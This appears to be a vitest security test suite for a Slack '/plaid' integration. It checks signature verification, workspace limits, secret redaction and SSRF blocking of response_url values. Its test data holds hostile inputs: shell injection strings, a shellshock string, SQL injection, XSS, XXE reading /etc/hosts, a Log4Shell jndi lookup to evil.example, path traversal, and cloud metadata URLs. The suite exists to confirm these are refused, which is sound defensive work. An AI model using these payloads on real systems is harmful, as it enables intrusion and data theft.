import { describe, expect, it } from 'vitest';

import { plaidItem } from '#lib/commands/plaid-item.ts';
import { commands } from '#lib/commands/registry.ts';
import { commandHelpMessage, helpMessage } from '#lib/messages/help-message.ts';
import { problemMessage } from '#lib/messages/problem-message.ts';
import { fixed } from '#lib/rotating.ts';
import { allowedResponseUrl } from '#lib/slack/response-url.ts';
import { connectSlackChannel } from '#lib/slack/slack-channel.ts';

import { slackProblems } from '../builders/slack-limits.ts';
import {
  buttonClick,
  messageShortcut,
  secondsOf,
  signatureOf,
  SIGNING_SECRET,
  slashCommand,
  sslCheck,
  type SlackPayload,
  type Tampering,
  urlVerification,
  viewSubmission,
} from '../builders/slack-request.ts';
import { inThreads, opened } from '../fakes/card-door.ts';
import { fakeLog } from '../fakes/fake-ports.ts';
import {
  answerIn,
  LONELY_ITEM,
  NOON,
  openSlackDoor,
  slackConfig,
  textsIn,
} from '../fakes/open-slack-door.ts';
import { startSlackServer } from '../fakes/slack-server.ts';
import { watchNetwork } from '../fakes/watch-network.ts';

/** The one answer to whoever is not Slack; it tells nothing about why. */
const refused = { statusCode: 401, body: '{"error":"unauthorized"}' };

const now = new Date(NOON);
const status = slashCommand('status');

function shifted(seconds: number): string {
  return secondsOf(new Date(now.getTime() + seconds * 1000));
}

describe('requests that Slack did not sign', () => {
  const cases: { id: string; case: string; payload?: SlackPayload; tampering: Tampering }[] = [
    {
      id: 'SA-001',
      case: 'the signature is left out',
      tampering: { headers: { 'x-slack-signature': undefined } },
    },
    {
      id: 'SA-003',
      case: 'neither signature nor timestamp',
      tampering: {
        headers: { 'x-slack-signature': undefined, 'x-slack-request-timestamp': undefined },
      },
    },
    { id: 'SA-005', case: 'a signature with nothing in it', tampering: { signature: () => 'v0=' } },
    {
      id: 'SA-007',
      case: 'signed with a secret that is not ours',
      tampering: { secret: 'somebody-elses-secret' },
    },
    {
      id: 'SA-009',
      case: 'signed with what an unset secret prints as',
      tampering: { secret: 'undefined' },
    },
    {
      id: 'SA-011',
      case: 'a captured request cut anew: part of its body moved into the version',
      tampering: cutAnew({ into: 'version' }),
    },
    {
      id: 'SA-011 too',
      case: 'a captured request cut anew: part of its body moved into the timestamp',
      tampering: cutAnew({ into: 'timestamp' }),
    },
    {
      id: 'SA-013',
      case: 'something behind a good signature',
      tampering: { signature: (good) => `${good}=junk` },
    },
    {
      id: 'SA-015',
      case: 'a good signature twice, as joined headers are',
      tampering: { signature: (good) => `${good},${good}` },
    },
    {
      id: 'SA-017',
      case: 'a signature of 64 characters that are more bytes',
      tampering: { signature: () => `v0=é${'a'.repeat(63)}` },
    },
    {
      id: 'SA-019',
      case: 'signed five minutes and a second ago',
      tampering: { timestamp: shifted(-301) },
    },
    {
      id: 'SA-021',
      case: 'signed for a time in ten years',
      tampering: { timestamp: shifted(10 * 365 * 86_400) },
    },
    { id: 'SA-023', case: 'an endless timestamp', tampering: { timestamp: 'Infinity' } },
    {
      id: 'SA-025',
      case: 'the right time, written with an exponent',
      tampering: { timestamp: (now.getTime() / 1000).toExponential() },
    },
    { id: 'SA-027', case: 'a time before 1970', tampering: { timestamp: '-1' } },
    { id: 'SA-029', case: 'the first second of 1970', tampering: { timestamp: '0' } },
    {
      id: 'SA-031',
      case: 'one byte more than was signed',
      tampering: { body: (signed) => `${signed}x` },
    },
    {
      id: 'SA-033',
      case: 'unsigned JSON that ends too early',
      tampering: {
        headers: { 'x-slack-signature': undefined, 'content-type': 'application/json' },
        body: () => '{',
      },
    },
    {
      id: 'SA-035',
      case: 'unsigned, empty and of no type',
      tampering: {
        headers: { 'x-slack-signature': undefined, 'content-type': undefined },
        body: () => '',
      },
    },
    {
      id: 'SA-037',
      case: 'unsigned, and the gateway gives no body at all',
      tampering: { headers: { 'x-slack-signature': undefined }, body: () => undefined },
    },
    {
      id: 'more',
      case: 'a modal that is sent, signed by somebody else',
      payload: viewSubmission({
        id: 'V0FORGED',
        modal: {
          type: 'modal',
          callback_id: 'case_form',
          private_metadata: '{"subject":"x","with":"Plaid","itemIds":[]}',
          title: { type: 'plain_text', text: 'Forged' },
          blocks: [],
        },
        answers: {},
      }),
      tampering: { secret: 'somebody-elses-secret' },
    },
    {
      id: 'more',
      case: 'a note to an Item, signed by somebody else',
      payload: messageShortcut({ text: LONELY_ITEM }, { callback: 'add_note' }),
      tampering: { secret: 'somebody-elses-secret' },
    },
    {
      id: 'SA-039',
      case: 'an unsigned challenge',
      payload: urlVerification('echo-me'),
      tampering: { headers: { 'x-slack-signature': undefined } },
    },
  ];

  it.each(cases)('$id: $case', async ({ payload = status, tampering }) => {
    const door = await openSlackDoor();
    expect(await door.ask(payload, tampering)).toEqual(refused);
    expect(door.fake.log.counts).toEqual(new Map([['slack.unsigned', 1]]));
    expect(door.fake.log.lines).toEqual([]);
    // At most that there was one which looks like Slack's.
    expect(door.storeCalls.filter((call) => call !== 'pulses.addRefusals')).toEqual([]);
    expect(door.slackCalls()).toBe(0);
  });

  it.each([
    { case: 'a second inside the five minutes, behind', tampering: { timestamp: shifted(-299) } },
    { case: 'five minutes behind', tampering: { timestamp: shifted(-300) } },
    { case: 'five minutes ahead', tampering: { timestamp: shifted(300) } },
  ])('but $case is signed in time', async ({ tampering }) => {
    const door = await openSlackDoor();
    expect(answerIn(await door.ask(status, tampering)).text).toContain('open incidents');
  });
});

describe('requests that Slack did sign', () => {
  it('SA-041: the type of the body in mixed case', async () => {
    const door = await openSlackDoor();
    const answer = await door.ask(status, {
      headers: { 'content-type': 'Application/X-WWW-Form-Urlencoded' },
    });
    expect(answerIn(answer).text).toContain('open incidents');
    expect(door.storeCalls).toContain('alerts.open');
  });

  it('SA-043: a form in base64 with bare UTF-8 in it', async () => {
    const door = await openSlackDoor();
    const bare = { ...status, body: status.body.replace('text=status', 'text=status café') };
    const answer = await door.ask(bare, { base64: true });
    expect(answerIn(answer).text).toContain('open incidents');
    expect(door.storeCalls).toContain('alerts.open');
  });

  it('SA-045: the secret before, while a rotation lasts', async () => {
    const config = { signingSecrets: ['the-new-secret', SIGNING_SECRET] };
    const door = await openSlackDoor({ config });
    expect(answerIn(await door.ask(status)).text).toContain('open incidents');
    const withNew = await door.ask(status, { secret: 'the-new-secret' });
    expect(answerIn(withNew).text).toContain('open incidents');
    expect(await door.ask(status, { secret: 'the-one-before-that' })).toEqual(refused);
  });

  it.each([
    { case: 'a command', payload: slashCommand(`item ${LONELY_ITEM}`, { team_id: 'T0EVIL' }) },
    {
      case: 'a button',
      payload: inAnotherTeam(
        buttonClick({ actionId: 'share', value: `item ${LONELY_ITEM}`, on: 'answer' }),
      ),
    },
  ])('SA-047: $case from a workspace that is not listed', async ({ payload }) => {
    const door = await openSlackDoor({ config: { teams: ['T0HOME', 'T0SISTER'] } });
    const { text, shown } = answerIn(await door.ask(payload));
    expect(text).toContain('does not answer this workspace');
    expect(shown).not.toContain('Harbor Test Bank');
    expect(door.storeCalls).toEqual([]);
    expect(door.slackCalls()).toBe(0);
  });

  it('SA-047: and a workspace that is listed gets its answers', async () => {
    const door = await openSlackDoor({ config: { teams: ['T0SISTER', 'T0HOME'] } });
    const value = `item ${LONELY_ITEM}`;
    expect(answerIn(await door.ask(slashCommand(value))).shown).toContain('Harbor Test Bank');
    await door.ask(buttonClick({ actionId: 'share', value, on: 'answer' }));
    expect(textsIn(door.fake.slack.responses).join('\n')).toContain('Harbor Test Bank');
  });

  it('SA-049: the signature header twice in two spellings, the bad one first', async () => {
    const door = await openSlackDoor();
    const good = signatureOf(SIGNING_SECRET, secondsOf(now), status.body);
    const answer = await door.ask(status, {
      headers: {
        'x-slack-signature': undefined,
        'X-Slack-Signature': 'v0=00',
        'x-SLACK-signature': good,
      },
    });
    expect([200, 401]).toContain(answer.statusCode);
  });

  it.each([
    { case: 'JSON that is no object', payload: { contentType: 'application/json', body: '[1]' } },
    { case: 'JSON that ends too early', payload: { contentType: 'application/json', body: '{' } },
    { case: 'nothing', payload: { contentType: 'application/json', body: '' } },
    { case: 'an empty form', payload: { ...status, body: '' } },
    { case: 'a payload that is no JSON', payload: { ...status, body: 'payload=%7B' } },
  ])('a signed body that holds $case: a sentence', async ({ payload }) => {
    const door = await openSlackDoor();
    expect(answerIn(await door.ask(payload)).text).toContain('could not read');
    expect(door.storeCalls).toEqual([]);
  });

  it('a probe of the address, and an event that nobody asked for: 200 and nothing else', async () => {
    const door = await openSlackDoor();
    expect(await door.ask(sslCheck())).toEqual({ statusCode: 200, body: '' });
    expect(await door.ask({ ...status, body: 'a=b' })).toEqual({ statusCode: 200, body: '' });
  });

  it('a challenge: given back', async () => {
    const door = await openSlackDoor();
    const answer = await door.ask(urlVerification('echo-me'));
    expect(answer).toMatchObject({ statusCode: 200, body: '{"challenge":"echo-me"}' });
  });
});

describe('what people, and others, type behind /plaid', () => {
  const help = helpMessage(commands).text;
  const notAnId = /does not look like an Item id/;
  const noCommand = /does not know that command/;
  const tooLong = /too long/;
  const secret = 'it was not used or stored. Slack has it now: rotate it.';
  const cases: {
    id: string;
    case: string;
    text: string;
    says: string | RegExp;
    /** What must not be shown; the text itself where nothing is said. */
    hostile?: string;
  }[] = [
    { id: 'ST-002', case: 'only spaces', text: '     ', says: help },
    { id: 'ST-004', case: '40,000 letters', text: 'a'.repeat(40_000), says: tooLong },
    { id: 'ST-006', case: 'an Item id of three letters', text: 'item abc', says: notAnId },
    {
      id: 'ST-012',
      case: 'a mention for an Item id',
      text: 'item <@U0VICTIM|bob>',
      says: notAnId,
      hostile: 'U0VICTIM',
    },
    {
      id: 'ST-014',
      case: 'backticks that would end a code span',
      text: 'item ```x```',
      says: notAnId,
      hostile: '```',
    },
    {
      id: 'ST-016',
      case: 'a NUL inside the Item id',
      text: 'item a\u0000b',
      says: notAnId,
      hostile: '\u0000',
    },
    {
      id: 'ST-018',
      // Read as plain letters or not at all: both lead to a sentence that helps.
      case: 'letters of double width',
      text: 'ｉｔｅｍ ａｂｃ',
      says: /does not (know that command|look like an Item id)/,
    },
    {
      id: 'ST-020',
      case: '10,000 combining marks on one letter',
      text: `item a${'\u0301'.repeat(10_000)}`,
      says: tooLong,
      hostile: '\u0301',
    },
    { id: 'ST-022', case: 'the name of every prototype', text: '__proto__', says: noCommand },
    { id: 'ST-024', case: 'a method of every object', text: 'toString', says: noCommand },
    { id: 'ST-026', case: 'a format string', text: '%s%s%n', says: noCommand },
    {
      id: 'ST-028',
      case: 'SQL that is always true',
      text: "item ' OR 1=1--",
      says: commandHelpMessage(plaidItem).text,
      hostile: '1=1',
    },
    {
      id: 'ST-030',
      case: 'the address of the metadata service as a company',
      text: 'codat http://169.254.169.254/latest/meta-data',
      says: /./,
      hostile: '169.254',
    },
    {
      id: 'ST-032',
      case: 'a company id with a query behind it',
      text: 'codat 2b8f6f0e-77aa-4c11-9d55-0d8a2f7c9e10?x=1',
      says: /./,
      hostile: '?x=1',
    },
  ];

  it.each(cases)('$id: $case', async ({ text, says, hostile = text }) => {
    const network = watchNetwork();
    const door = await openSlackDoor();
    const answer = answerIn(await door.ask(slashCommand(text)));
    expect(answer.text).toMatch(says);
    if (hostile.trim() !== '') expect(answer.shown).not.toContain(hostile);
    expect(door.slackCalls()).toBe(0);
    expect(network.tries()).toBe(0);
    expect(door.fake.log.counts).toEqual(new Map([['command.answered', 1]]));
  });

  it.each([
    {
      id: 'ST-008',
      case: 'an access token for an Item id',
      text: 'item access-production-7d0b4c1e-90aa-4f3d-8b7e-6c5d4e3f2a1b',
      secret: '7d0b4c1e',
    },
    {
      id: 'ST-010',
      case: 'the authorization header of Codat',
      text: 'codat Basic SGlkZGVuT25l',
      secret: 'SGlkZGVuT25l',
    },
    {
      id: 'ST-008 too',
      case: 'an access token without a command',
      text: '"access_token": "access-sandbox-7d0b4c1e-90aa-4f3d-8b7e-6c5d4e3f2a1b"',
      secret: '7d0b4c1e',
    },
    {
      id: 'ST-008 too',
      case: 'a token of Slack',
      text: 'error xoxb-4711081500-hidden-one',
      secret: 'hidden-one',
    },
  ])('$id: $case', async ({ text, secret: hidden }) => {
    const door = await openSlackDoor();
    const result = await door.ask(slashCommand(text));
    expect(answerIn(result).text).toContain(secret);
    expect(JSON.stringify(result)).not.toContain(hidden);
    expect(door.traces()).not.toContain(hidden);
    expect(door.fake.log.counts).toEqual(
      new Map([
        ['secret.pasted', 1],
        ['command.answered', 1],
      ]),
    );
    expect(door.storeCalls).toEqual([]);
    expect(door.slackCalls()).toBe(0);
  });

  it('ST-008 too: an access token far inside a paste that is too long', async () => {
    const door = await openSlackDoor();
    const paste = `item ${'words and more words '.repeat(80)} access-sandbox-7d0b4c1e-90aa-4f3d`;
    const answer = answerIn(await door.ask(slashCommand(paste)));
    expect(answer.text).toContain(secret);
    expect(answer.shown + door.traces()).not.toContain('7d0b4c1e');
    expect(door.storeCalls).toEqual([]);
  });

  it('ST-036: the text twice, and the first one holds', async () => {
    const door = await openSlackDoor();
    const twice = slashCommand('help');
    const answer = await door.ask({ ...twice, body: `${twice.body}&text=status` });
    expect(answerIn(answer).text).toBe(help);
    expect(door.storeCalls).toEqual([]);
  });

  it('ST-038: a command of another app', async () => {
    const door = await openSlackDoor();
    const { text, shown } = answerIn(
      await door.ask(slashCommand(`item ${LONELY_ITEM}`, { command: '/evil' })),
    );
    expect(text).toContain('/plaid help');
    expect(shown).not.toContain('/evil');
    expect(door.storeCalls).toEqual([]);
  });

  it('ST-040: in a channel that is shared with another company', async () => {
    const door = await openSlackDoor();
    const { text, shown } = answerIn(
      await door.ask(
        slashCommand(`item ${LONELY_ITEM}`, { channel_id: 'C0SHARED', is_ext_shared: 'true' }),
      ),
    );
    expect(text).toContain('shared with other companies');
    expect(shown).not.toContain('Harbor Test Bank');
    expect(door.storeCalls).toEqual([]);
  });

  it('ST-040: unless that channel is listed', async () => {
    const door = await openSlackDoor({ config: { channels: ['C0SHARED'] } });
    const fields = { channel_id: 'C0SHARED', is_ext_shared: 'true' };
    const inside = answerIn(await door.ask(slashCommand(`item ${LONELY_ITEM}`, fields)));
    expect(inside.shown).toContain('Harbor Test Bank');
    const elsewhere = answerIn(await door.ask(slashCommand(`item ${LONELY_ITEM}`)));
    expect(elsewhere.text).toContain('does not answer in this channel');
  });
});

/** Of our own making, after the classes of the well-known list. */
const naughty: Readonly<Record<string, readonly string[]>> = {
  'words that languages keep for themselves': [
    'undefined',
    'null',
    '(nil)',
    'NaN',
    'hasOwnProperty',
    'constructor.prototype',
    'True && False',
    'then',
  ],
  numbers: [
    '0',
    '-1e400',
    '0xabad1dea',
    '1/0',
    '-0.0',
    '9'.repeat(96),
    '٤٢',
    '1,000,00.5',
    '０１２３',
    '2026-02-30T25:61:61Z',
  ],
  'signs and unicode': [
    '⁰⁴⁵ ₀₁₂',
    'Ω≈ç√∫˜µ≤≥÷',
    '田中さんにあげて下さい',
    'ÅÍÎÏ˝ÓÔ',
    '𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐 𝖋𝖔𝖝',
    '\ud800 alone',
    '\ufeff\ufffe\uffff',
    'ﬃ ligature ﷺ',
    'ıİſK',
  ],
  emoji: ['😍😱', '👩🏽‍🚒👨‍👩‍👧‍👦', '🇺🇸🇫🇷🇯🇵', ':red_circle: :skull:', '0️⃣ 1️⃣ 2️⃣'],
  'right to left, and unseen': [
    '\u202eetats metI\u202c',
    '\u2066hidden\u2069 \u2067turned\u2069',
    'مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ',
    'ab\u200b\u200ccd\u200d\u2060',
    '\u00a0\u2003\u3000\u180e',
    '\u2028\u2029line ends',
  ],
  'marks piled up': [`z${'\u0338\u0322\u0348'.repeat(30)}algo`, `${'\u0e49'.repeat(60)} fff`],
  SQL: ["'; DROP TABLE items; --", '1 UNION SELECT NULL,NULL#', '" OR ""="', '$where: 1==1'],
  'HTML and Slack’s own marks': [
    '<script>alert(7)</script>',
    '"><img src=x onerror=alert(7)>',
    '<!channel> <!here>',
    '@everyone @here #general',
    '<https://evil.example/|Plaid>',
    '&lt;!channel&gt; &#x3C;b&#x3E;',
    '*bold* _slanted_ ~struck~ `code`',
    ']]><!ENTITY xxe SYSTEM "file:///etc/hosts">',
  ],
  shell: [
    '$(touch /var/naughty)',
    '`id`; ls -la | tee',
    '|| ping -c 9 127.0.0.1 &',
    '() { :;}; echo',
    '--help --version',
    '-rf *',
  ],
  'format strings and templates': [
    '%d%x%p%99999999s',
    '{0} {{7*7}} ${7*7}',
    '${jndi:ldap://evil.example/a}',
    '<%= 7 * 7 %> #{7*7}',
  ],
  'paths and addresses': [
    '../../../../etc/passwd%00.png',
    'C:\\CON\\..\\NUL',
    'file:///dev/zero',
    'http://[::1]:22/',
    '//evil.example/%2e%2e',
  ],
  'control characters': [
    '\u0000\u0001\u0002\u0007\b',
    'one\r\nSet-Cookie: a=b',
    '\u001b[31mred\u001b[0m',
    '\t\v\f\u0085',
    '\u007f\u0080\u009f',
  ],
};

describe('ST-034: naughty strings', () => {
  const all = Object.entries(naughty).flatMap(([kind, texts]) =>
    texts.map((text) => ({ kind, text, shownAs: JSON.stringify(text).slice(0, 40) })),
  );

  it.each(all)('$kind: $shownAs', async ({ text }) => {
    const door = await openSlackDoor();
    const asked = commands.map(({ name }) => `${name} ${text}`);
    for (const line of [text, ...asked, `item ${LONELY_ITEM} ${text}`]) {
      const answer = answerIn(await door.ask(slashCommand(line)));
      expect(answer.text).toMatch(/\p{L}{3}.*[.?:]/su);
      if (text.trim().length > 3) expect(answer.shown).not.toContain(text.trim());
      expect(answer.shown).not.toMatch(/[\p{Cf}]|[^\P{Cc}\n]/u);
      expect(answer.shown).not.toMatch(/<!(channel|here|everyone)|<@|<https?:[^|>]*evil/);
    }
    expect(door.fake.log.lines.every((line) => !textsIn(line).includes(text))).toBe(true);
    expect(door.slackCalls()).toBe(0);
  });
});

describe('naughty strings in the form of a ticket', () => {
  const all = Object.entries(naughty).map(([kind, texts]) => ({ kind, texts }));

  it.each(all)('$kind: a draft that Slack takes, here and in the thread', async ({ texts }) => {
    for (const text of texts) {
      const door = await openSlackDoor();
      const said = { text: `link_session_id 6b1f0c94-2d7e-4a58-8c3b-90e1d5f7a264 ${text}` };
      const form = await opened(door, messageShortcut(said, { callback: 'draft_ticket' }));
      await form.choose('kind', 'link');
      form.fill({ 'field seen': text, 'field tried': text });
      expect(await form.submit()).toEqual({});
      expect(form.text).toContain('Subject: Link fails');
      const [post, ...more] = inThreads(door).map(({ message }) => message);
      expect(more).toEqual([]);
      expect(post && slackProblems(post, { people: true })).toEqual([]);
    }
  });

  it.each(all)('$kind for a case number: taken or refused, and the list is sound', async (row) => {
    const door = await openSlackDoor();
    for (const text of row.texts) {
      const form = await opened(door, slashCommand('ticket link'));
      await form.submit();
      form.fill({ case: text });
      expect(['', 'case']).toContain(Object.keys(await form.submit()).join());
    }
    const listed = JSON.parse((await door.ask(slashCommand('tickets'))).body ?? '');
    const { response_type: kind, ...message } = listed;
    expect(kind).toBe('ephemeral');
    expect(slackProblems(message, { people: true })).toEqual([]);
  });
});

describe('response_url: a way out of our network', () => {
  const cases = [
    {
      id: 'ST-042',
      case: 'the metadata service',
      url: 'http://169.254.169.254/latest/meta-data/',
    },
    {
      id: 'ST-044',
      case: 'Slack without encryption',
      url: 'http://hooks.slack.com/commands/T/1/x',
    },
    {
      id: 'ST-046',
      case: 'Slack as the name of a user elsewhere',
      url: 'https://hooks.slack.com@evil.example/commands/T/1/x',
    },
    {
      id: 'ST-048',
      case: 'a backslash before Slack',
      url: 'https://evil.example\\@hooks.slack.com/commands/x',
    },
    {
      id: 'ST-050',
      case: 'another host of Slack',
      url: 'https://slack.com/api/chat.postMessage',
    },
    { id: 'ST-052', case: 'this machine as a number', url: 'https://2130706433/commands/x' },
    { id: 'ST-056', case: 'no address but a script', url: 'javascript:alert(1)' },
    { id: 'ST-058', case: 'nothing', url: '' },
    {
      id: 'more',
      case: 'Slack at another port',
      url: 'https://hooks.slack.com:8443/commands/T/1/x',
    },
    {
      id: 'more',
      case: 'Slack as part of another name',
      url: 'https://hooks.slack.com.evil.example/x',
    },
    { id: 'more', case: 'Slack with a dot behind it', url: 'https://hooks.slack.com./commands/x' },
    {
      id: 'more',
      case: 'Slack with a name and a password',
      url: 'https://name:word@hooks.slack.com/commands/T/1/x',
    },
    { id: 'more', case: 'a file', url: 'file:///etc/hosts' },
    { id: 'more', case: 'this machine in IPv6', url: 'https://[::1]/commands/x' },
  ];

  it.each(cases)('$id: $case is not allowed', ({ url }) => {
    expect(allowedResponseUrl(url, slackConfig.apiUrl)).toBeUndefined();
  });

  it.each(cases)(
    '$id: a command with $case is answered, and nothing is called',
    async ({ url }) => {
      const network = watchNetwork();
      const door = await openSlackDoor();
      const answer = await door.ask(slashCommand('status', { response_url: url }));
      expect(answerIn(answer).text).toContain('open incidents');
      expect(door.fake.log.counts).toEqual(
        new Map([
          ['ssrf.blocked', 1],
          ['command.answered', 1],
        ]),
      );
      expect(door.slackCalls()).toBe(0);
      expect(network.tries()).toBe(0);
    },
  );

  it.each(cases)('$id: Share with $case has nowhere to go', async ({ url }) => {
    const network = watchNetwork();
    const door = await openSlackDoor({
      // The real one: what gets as far as this would go out.
      change: (fake) => ({ slack: connectSlackChannel(fixed(slackConfig), fake.log) }),
    });
    const answer = await door.ask(shareClick(url));
    expect(answer).toEqual({ statusCode: 200, body: '' });
    expect(door.fake.log.counts).toEqual(
      new Map([
        ['ssrf.blocked', 1],
        ['command.failed', 1],
      ]),
    );
    expect(network.tries()).toBe(0);
  });

  it.each(cases)('$id: Share with $case gives Slack no address', async ({ url }) => {
    const door = await openSlackDoor();
    await door.ask(shareClick(url));
    const addresses = door.fake.slack.responses.map((response) => response.url);
    expect(addresses.filter((address) => URL.canParse(address))).toEqual([]);
  });

  it.each(cases)('$id: our way out refuses $case by itself', async ({ url }) => {
    const network = watchNetwork();
    const channel = connectSlackChannel(fixed(slackConfig), fakeLog());
    const outcome = await channel.respond(url, problemMessage('Hello.'), 'asker');
    expect(outcome).toEqual({ kind: 'refused', reason: 'not an address of Slack' });
    expect(network.tries()).toBe(0);
  });

  it('ST-054: dots of another script are read as dots, and only Slack is called', async () => {
    const url = 'https://hooks。slack。com/commands/x';
    expect(allowedResponseUrl(url, slackConfig.apiUrl)?.href).toBe(
      'https://hooks.slack.com/commands/x',
    );
    const door = await openSlackDoor();
    await door.ask(shareClick(url));
    expect(door.fake.slack.responses.map((response) => response.url)).toEqual([
      'https://hooks.slack.com/commands/x',
    ]);
    expect(door.fake.log.counts).toEqual(new Map([['command.answered', 1]]));
  });

  it('ST-060: a redirect is not followed', async () => {
    const server = await startSlackServer({
      status: 302,
      body: '',
      headers: { location: '/latest/meta-data/' },
    });
    const config = { ...slackConfig, apiUrl: `${server.url}/api/` };
    const channel = connectSlackChannel(fixed(config), fakeLog());
    const url = `${server.url}/commands/T/1/x`;
    const outcome = await channel.respond(url, problemMessage('Hello.'), 'asker');
    expect(outcome.kind).toBe('unsure');
    expect(server.calls.map(({ path }) => path)).toEqual(['/commands/T/1/x']);
  });

  it('ST-060: nor is it when the API itself redirects', async () => {
    const server = await startSlackServer({
      status: 307,
      body: '',
      headers: { location: '/latest/meta-data/' },
    });
    const config = { ...slackConfig, apiUrl: `${server.url}/api/` };
    const mark = { alert: 'alert-1', part: 'card' };
    const channel = connectSlackChannel(fixed(config), fakeLog());
    const outcome = await channel.post('C0ALERTS', problemMessage('Hello.'), mark);
    expect(outcome.kind).toBe('unsure');
    expect(server.calls.map(({ path }) => path)).toEqual(['/api/chat.postMessage']);
  });

  it.each([
    { case: 'Slack', url: 'https://hooks.slack.com/actions/T/1/x' },
    { case: 'Slack for governments', url: 'https://hooks.slack-gov.com/actions/T/1/x' },
    { case: 'Slack at its usual port', url: 'https://hooks.slack.com:443/actions/T/1/x' },
  ])('$case is allowed', ({ url }) => {
    const { hostname, pathname } = new URL(url);
    const allowed = allowedResponseUrl(url, slackConfig.apiUrl);
    expect(allowed?.href).toBe(`https://${hostname}${pathname}`);
  });

  it('the stand-in for Slack is allowed on its very origin only', () => {
    const apiUrl = 'http://127.0.0.1:4010/api/';
    expect(allowedResponseUrl('http://127.0.0.1:4010/respond/1', apiUrl)?.pathname).toBe(
      '/respond/1',
    );
    expect(allowedResponseUrl('http://127.0.0.1:4011/respond/1', apiUrl)).toBeUndefined();
    expect(allowedResponseUrl('http://127.0.0.1/respond/1', apiUrl)).toBeUndefined();
    expect(allowedResponseUrl('http://127.0.0.1:4010/respond/1', slackConfig.apiUrl)).toBe(
      undefined,
    );
  });
});

function shareClick(responseUrl: string): SlackPayload {
  return buttonClick({ actionId: 'share', value: 'status', on: 'answer', responseUrl });
}

function inAnotherTeam(payload: SlackPayload): SlackPayload {
  return { ...payload, body: payload.body.replaceAll('T0HOME', 'T0EVIL') };
}

/**
 * What an eavesdropper could try who holds one signed request that has become too old: `v0:<time>:<body>` is read in
 * another way, so that a time of today stands in it and a body of the attacker's choice behind.
 */
function cutAnew({ into }: { into: 'version' | 'timestamp' }): Tampering {
  const captured = { at: shifted(-86_400), time: shifted(0), body: status.body };
  const signature = signatureOf(
    SIGNING_SECRET,
    captured.at,
    `x:${captured.time}:${captured.body}`,
  ).slice('v0='.length);
  return into === 'version'
    ? { signature: () => `v0:${captured.at}:x=${signature}` }
    : {
        signature: () => `v0=${signature}`,
        headers: { 'x-slack-request-timestamp': `${captured.at}:x:${captured.time}` },
      };
}
